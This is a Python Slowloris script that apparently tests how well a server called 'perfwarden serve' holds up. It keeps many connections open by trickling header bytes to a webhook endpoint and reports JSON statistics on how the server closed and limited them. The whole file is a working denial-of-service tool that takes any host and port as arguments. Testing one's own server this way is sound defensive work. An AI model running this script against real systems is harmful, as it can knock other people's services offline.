"""Slowloris against perfwarden serve: keep N connections from SOURCE open,
each sending a request's headers one byte at a time (so an idle timeout never
fires), reopening each one the server closes. Prints one JSON line:
opened, closed (by the server), max_life_s (of a connection the server had
accepted and then closed), held_max (most open at once)."""
import json, socket, sys, time

src, host, port, n, duration, tick = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), 0.3
trickle = b"X-Slow-Header: " + b"a" * 4000
conns = {}  # socket -> [opened_at, bytes_sent]
stats = {"opened": 0, "closed": 0, "max_life_s": 0.0, "held_max": 0, "refused": 0}


def open_one():
    s = socket.socket()
    s.bind((src, 0))
    s.settimeout(1)
    try:
        s.connect((host, port))
        s.sendall(b"POST /hooks/github HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 10\r\n")
    except OSError:
        stats["refused"] += 1
        s.close()
        return
    s.setblocking(False)
    conns[s] = [time.monotonic(), 0]
    stats["opened"] += 1


end = time.monotonic() + duration
while time.monotonic() < end:
    while len(conns) < n and time.monotonic() < end:
        open_one()
        if stats["refused"] > 20 * n:
            break
    now = time.monotonic()
    for s, st in list(conns.items()):
        gone = False
        try:
            if s.recv(4096) == b"":
                gone = True
        except BlockingIOError:
            pass
        except OSError:
            gone = True
        if not gone:
            try:
                s.send(trickle[st[1] % len(trickle):][:1])
                st[1] += 1
            except BlockingIOError:
                pass
            except OSError:
                gone = True
        if gone:
            life = now - st[0]
            # a connection closed at once was refused (a limit), not served and cut off
            if life > 0.5:
                stats["max_life_s"] = max(stats["max_life_s"], life)
                stats["closed"] += 1
            s.close()
            del conns[s]
    alive = sum(1 for st in conns.values() if now - st[0] > 0.5)
    stats["held_max"] = max(stats["held_max"], alive)
    time.sleep(tick)
for s in conns:
    s.close()
print(json.dumps(stats))
